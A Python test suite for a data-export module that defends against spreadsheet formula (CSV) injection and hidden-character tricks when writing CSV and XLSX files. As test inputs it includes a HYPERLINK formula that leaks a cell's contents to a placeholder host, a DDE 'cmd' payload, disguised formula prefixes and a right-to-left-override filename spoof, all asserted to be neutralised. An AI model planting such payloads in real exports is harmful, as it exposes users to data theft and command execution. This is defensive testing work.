import csv
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from time import perf_counter

import numpy as np
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from telling import english_left
from tiny import write_tiny

from smm_analysis import tables, terms
from smm_analysis.cli import main
from smm_analysis.tables import exporting
from smm_analysis.tables.exporting import CELL, defused, export_table, export_tables, suppress_small

LEADS = "=+-@＝＋－＠"
HYPERLINK = '=HYPERLINK("http://a.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    return tables.load(write_tiny(tmp_path_factory.mktemp("data") / "tiny"))


def written(path, frame, **options):
    """Export a table and return what was said and the cells below the heading, read back."""
    said = export_table(frame, path, **options)
    return said, cells_of(path)[1:]


def cells_of(path, sheet=0):
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            return list(csv.reader(file, strict=True))
    book = openpyxl.load_workbook(path)
    return [[cell.value for cell in row] for row in book.worksheets[sheet].iter_rows()]


@pytest.fixture(params=["csv", "xlsx"])
def path(request, tmp_path):
    return tmp_path / f"table.{request.param}"


# --- formulas ---------------------------------------------------------------------------------------------------------

FORMULAS = [
    *(
        HYPERLINK,
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\tharmless",
        "  =1",
        "\u3000=1",
        "\xa0=1",
    ),
    *(
        '"=1',
        "'=1",
        "“=1",
        '" =1',
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
        "\u200b=1",
        "\x00=1",
        "\ufeff=1",
        "=cmd|'/c x'!A1",
    ),
    *("\ud800=1", "\u00ad=1", "\u200d=1", "\U000e0041=1"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_is_counted(path, text):
    said, [[cell]] = written(path, pd.DataFrame({"text": [text]}, dtype=object))
    assert cell.startswith("'")
    assert said.changed["formula"] == 1
    assert "1 texts that a spreadsheet would compute: an apostrophe stands in front" in str(said)


def test_an_excel_cell_is_a_string_and_stays_one_when_edited(tmp_path):
    path = tmp_path / "a.xlsx"
    export_table(pd.DataFrame({"text": [HYPERLINK, "#N/A", "12", "2024-03-04"], "=1+1": 5}), path)
    sheet = openpyxl.load_workbook(path).active
    assert [cell.data_type for cell in sheet["A"]] == ["s"] * 5
    assert [cell.number_format for cell in sheet["A"]] == ["@"] * 5
    assert sheet["A2"].value == f"'{HYPERLINK}"
    assert sheet["A3"].value == "#N/A"
    assert sheet["B1"].value == "'=1+1"
    assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("text", ["a;=1+1", "a\n=1+1", "a\t@SUM(1)", 'a;" =1', "a;\n＝1", "a\r\n-1"])
def test_in_csv_no_cell_of_another_locale_begins_with_a_formula(tmp_path, text):
    _, [[cell]] = written(tmp_path / "a.csv", pd.DataFrame({"text": [text]}))
    for mark in ";\t\n":
        for part in cell.split(mark):
            assert part.strip(" '\"")[:1] not in set(LEADS) or part.lstrip(' "')[:1] == "'"


@given(st.text(st.sampled_from(list("=+-@＝＠;,\t\r\n '\"a1가\u200b\u202e\x00\xa0")), max_size=12))
def test_no_text_comes_out_as_a_formula(text):
    for inner in (False, True):
        safe = defused(text, inner=inner)
        bare = safe.lstrip(" \xa0\u3000'\"")
        assert safe[:1] == "'" or (safe[:1] not in set("\t\r\n") and bare[:1] not in set(LEADS))
        assert not set("\x00\u202e\u200b\r") & set(safe)
        if inner:
            assert all(cell.strip(' \xa0"')[:1] not in set(LEADS) for cell in safe.replace("\n", ";").split(";"))


def test_harmless_texts_stay_as_they_are(path):
    texts = [
        "1+1=2",
        "a-b",
        "배송이 빨라요 @user",
        "<script>alert(1)</script>",
        "",
        "'인용'",
        "👨‍👩‍👧 가족",
        "می‌خواهم",
        "e=mc2",
        "🇰🇷",
    ]
    said, cells = written(path, pd.DataFrame({"text": texts}))
    assert [cell[0] or "" for cell in cells if cell] == texts
    assert not any(said.changed.values())


# --- ids, numbers, times ----------------------------------------------------------------------------------------------

IDS = ["17800000000000123", "007", "1E5", "12345678901234567890", "2024-03", "3/4", "1.5e10"]


def test_ids_stay_text_in_excel(tmp_path):
    said, cells = written(tmp_path / "a.xlsx", pd.DataFrame({"id": IDS}))
    assert [cell for [cell] in cells] == IDS
    assert not any(said.changed.values())


def test_ids_that_excel_would_turn_into_numbers_have_an_apostrophe_in_csv(tmp_path):
    said, cells = written(tmp_path / "a.csv", pd.DataFrame({"id": [*IDS, "m001", "12", "a7f3"]}))
    assert [cell for [cell] in cells] == [*(f"'{key}" for key in IDS), "m001", "12", "a7f3"]
    assert said.changed["digits"] == len(IDS)


def test_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "whole": pd.array([-5, None, 2**40], dtype="Int64"),
            "number": [-0.25, np.nan, np.inf],
            "flag": [True, False, True],
            "money": [Decimal("12.50"), None, Decimal(3)],
            "big": [10**15 - 1, 10**15, 17800000000000123],
        }
    )
    _, cells = written(tmp_path / "a.xlsx", frame)
    assert cells == [
        [-5, -0.25, True, 12.5, 10**15 - 1],
        [None, None, False, None, "1000000000000000"],
        [2**40, "inf", True, 3, "17800000000000123"],
    ]
    _, cells = written(tmp_path / "a.csv", frame)
    assert cells[0] == ["-5", "-0.25", "True", "12.5", "999999999999999"]
    assert cells[2][-1] == "'17800000000000123"


def test_moments_are_local_and_days_are_days(tmp_path):
    moments = pd.to_datetime(["2024-03-04T09:30:00.5+09:00", None]).tz_convert("Asia/Seoul")
    frame = pd.DataFrame({"at": moments, "day": pd.to_datetime(["2024-03-04", "2024-03-05"]), "old": date(1850, 1, 2)})
    _, cells = written(tmp_path / "a.xlsx", frame)
    old = "1850-01-02"
    assert cells == [
        [datetime(2024, 3, 4, 9, 30), datetime(2024, 3, 4), old],
        [None, datetime(2024, 3, 5), old],
    ]
    _, cells = written(tmp_path / "a.csv", frame)
    assert cells == [["2024-03-04 09:30:00", "2024-03-04", old], ["", "2024-03-05", old]]


# --- limits and hidden characters -------------------------------------------------------------------------------------


@pytest.mark.parametrize("unit", ["가", "😀", "=", ";="])
def test_a_megabyte_is_cut_to_a_cell_and_counted(path, unit):
    said, [[cell], [short]] = written(path, pd.DataFrame({"text": [unit * 1_000_000, "short"]}))
    assert CELL - 2 <= len(cell.encode("utf-16-le")) // 2 <= CELL
    assert cell.endswith("… [cut]")
    assert short == "short"
    assert said.changed["cut"] == 1
    assert "1 texts longer than the 32,767 characters of a cell, cut" in str(said)


def test_a_text_that_just_fits_is_not_cut(path):
    said, [[cell]] = written(path, pd.DataFrame({"text": ["😀" * (CELL // 2) + "a"]}))
    assert len(cell) == CELL // 2 + 1
    assert not said.changed["cut"]


def test_control_characters_are_taken_out(path):
    every = "".join(map(chr, range(32))) + "\x7f\x9f\ufffe\uffff\ud800"
    said, [[cell]] = written(path, pd.DataFrame({"text": [f"a{every}b"]}, dtype=object))
    assert cell == "a\t\n\nb"
    assert said.changed["control"] == 1


def test_marks_of_direction_are_shown_and_those_of_no_width_taken_out(path):
    texts = ["photo\u202egpj.exe", "a\u200bb\u2060c\ufeff", "\u2066x\u2069", "a\u200db"]
    said, cells = written(path, pd.DataFrame({"text": texts}))
    assert [cell for [cell] in cells] == ["photo[U+202E]gpj.exe", "abc", "[U+2066]x[U+2069]", "ab"]
    assert (said.changed["direction"], said.changed["no_width"]) == (2, 2)


def test_a_table_too_long_for_a_sheet_goes_on_in_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(exporting, "ROWS", 4)
    path = tmp_path / "a.xlsx"
    said = export_table(pd.DataFrame({"n": range(7)}), path)
    assert said.sheets == 3
    assert [cells_of(path, sheet) for sheet in range(3)] == [
        [["n"], [0], [1], [2]],
        [["n"], [3], [4], [5]],
        [["n"], [6]],
    ]
    assert openpyxl.load_workbook(path).sheetnames == ["a 1", "a 2", "a 3"]
    assert "7 rows on 3 sheets" in str(said)
    assert "Excel opens the first 4 rows" in str(export_table(pd.DataFrame({"n": range(4)}), tmp_path / "a.csv"))


def test_too_many_columns_are_refused(path):
    with pytest.raises(tables.DataError, match="a sheet holds 16,384"):
        export_table(pd.DataFrame(np.zeros((1, 16_385))), path)
    assert not list(path.parent.iterdir())


@pytest.mark.parametrize("name", ["a.xls", "a.txt", "a"])
def test_other_files_are_refused(tmp_path, name):
    with pytest.raises(tables.DataError, match=r"ends in \.csv or \.xlsx"):
        export_table(pd.DataFrame({"a": [1]}), tmp_path / name)


def test_an_empty_table_has_its_heading(path):
    assert written(path, pd.DataFrame({"a": [], "b": []}))[1] == []
    assert cells_of(path) == [["a", "b"]]


@given(st.lists(st.lists(st.text(max_size=30), min_size=2, max_size=2), min_size=1, max_size=5))
def test_any_texts_come_back_as_many_cells(tmp_path_factory, rows):
    folder = tmp_path_factory.mktemp("any")
    frame = pd.DataFrame(rows, columns=["a", "b"], dtype=object)
    for name in ("a.csv", "a.xlsx"):
        _, cells = written(folder / name, frame)
        inner = name.endswith("csv")
        digits = exporting._NUMBER.fullmatch
        expected = [[defused(text, inner=inner) for text in row] for row in rows]
        expected = [[f"'{text}" if inner and digits(text) else text for text in row] for row in expected]
        assert [[cell or "" for cell in row] for row in cells] == expected


@pytest.mark.parametrize("unit", ["\n", " ", ";", "'", '"', "a;", "\u200b", "\u202e", "\r\n", "\u200c"])
def test_a_hostile_megabyte_takes_no_longer_than_its_length(unit):
    start = perf_counter()
    defused(unit * (1_000_000 // len(unit)), inner=True)
    assert perf_counter() - start < 5


def test_a_file_appears_whole_or_not_at_all(path, monkeypatch):
    path.write_bytes(b"earlier")
    monkeypatch.setattr(exporting, "_columns", lambda *_, **__: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        export_table(pd.DataFrame({"a": [1]}), path)
    assert [p.name for p in path.parent.iterdir()] == [path.name]
    assert path.read_bytes() == b"earlier"


def test_csv_has_a_byte_order_mark_and_quotes_every_text(tmp_path):
    export_table(pd.DataFrame({"글": ['a"b', "한\n글"], "n": [1, 2]}), tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_bytes().decode() == '\ufeff"글","n"\r\n"a""b",1\r\n"한\n글",2\r\n'


@pytest.mark.parametrize("lang", terms.LANGS)
def test_headings_come_from_the_glossary_if_asked_for(tmp_path, lang):
    export_table(pd.DataFrame({"author_key": ["a"], "unheard of": [1]}), tmp_path / "a.csv", lang=lang)
    assert cells_of(tmp_path / "a.csv")[0] == [terms.label("author_key", lang), "unheard of"]


# --- a data set -------------------------------------------------------------------------------------------------------


def test_a_data_set_becomes_a_workbook_without_texts(tiny, tmp_path):
    done = export_tables(tiny, tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == list(tiny.names)
    assert {d.name: d.rows for d in done} == {name: len(frame) for name, frame in tiny.frames.items()}
    mentions = [[cell.value for cell in row] for row in book["mentions"].iter_rows()]
    assert mentions[0] == [name for name in tiny.mentions if name != "text"]
    assert mentions[1][4] == "a1"
    [said] = [d for d in done if d.withheld]
    assert (said.name, said.withheld) == ("mentions", ("text",))
    assert "left out: text (--texts adds it" in str(said)


def test_a_data_set_becomes_a_folder_with_texts_if_asked_for(tiny, tmp_path):
    done = export_tables(tiny, tmp_path / "out", names=["mentions"], texts=True)
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["mentions.csv"]
    assert "배송이 빨라요\n또 살게요" in {row[6] for row in cells_of(tmp_path / "out" / "mentions.csv")}
    assert done[0].withheld == ()


def test_an_export_is_never_written_where_tables_are_read(tiny, tmp_path):
    for out in (tiny.path, tiny.path / "mentions"):
        with pytest.raises(tables.DataError, match="not to be read as one"):
            export_tables(tiny, out)
    (tmp_path / "file").touch()
    for out in (tmp_path / "file", tmp_path / "out.csv"):
        with pytest.raises(tables.DataError, match="no folder"):
            export_tables(tiny, out)
    assert tables.check(tiny.path).ok


def test_the_command_says_what_it_wrote(tiny, tmp_path):
    out = tmp_path / "out"
    run = CliRunner().invoke(main, ["export", str(tiny.path), str(out), "--table", "mentions", "--lang", "ko"])
    assert run.exit_code == 0, run.output
    assert run.output.splitlines()[0] == f"{out / 'mentions.csv'}: mentions 표, 4행"
    assert "뺀 열: text (--texts를 주면" in run.output and not english_left(run.output)
    assert cells_of(out / "mentions.csv")[0][0] == terms.label("mention_id", "ko")
    run = CliRunner().invoke(main, ["export", str(tiny.path), str(out), "--table", "mention"])
    assert run.exit_code == 2
    assert "there is no table 'mention' to export" in run.output
    run = CliRunner().invoke(main, ["export", str(tiny.path), str(out), "--table", "mentions"])
    assert run.output.startswith(f"{out / 'mentions.csv'}: mentions, 4 rows\n  left out: text (--texts adds it")


def test_every_change_is_told_in_both_languages():
    done = exporting.Exported(Path("a.csv"), "a", exporting.ROWS, 2, ("text",), dict.fromkeys(exporting._CHANGES, 1200))
    assert len(done.told("ko").splitlines()) == len(str(done).splitlines()) == 9
    assert "a.csv: a, 1,048,576 rows on 2 sheets" in str(done) and "1,200 texts longer than the 32,767 " in str(done)
    assert "시트 2개" in done.told("ko") and not english_left(done.told("ko"))


# --- small groups -----------------------------------------------------------------------------------------------------


def test_small_groups_keep_their_row_and_lose_their_numbers():
    table = pd.DataFrame({"team": list("abcd"), "n": pd.array([5, 4, 0, None], "Int64"), "rate": [0.1, 0.2, 0.3, 0.4]})
    shown = suppress_small(table)
    assert shown["team"].tolist() == list("abcd")
    assert shown["n"].tolist()[:1] == [5]
    assert shown["n"].isna().tolist() == shown["rate"].isna().tolist() == [False, True, True, True]
    assert table["rate"].notna().all()
    assert suppress_small(table, smallest=4, keep=["rate"])["rate"].notna().all()
    assert suppress_small(table, smallest=4)["n"].notna().tolist() == [True, True, False, False]


def test_the_number_of_people_has_to_be_there():
    with pytest.raises(KeyError, match="there is no column 'people'; columns: n"):
        suppress_small(pd.DataFrame({"n": [1]}), "people")


def test_the_smallest_group_is_one_number_for_all():
    from smm_analysis import plot

    assert plot.SMALLEST_GROUP == terms.SMALLEST_GROUP == 5
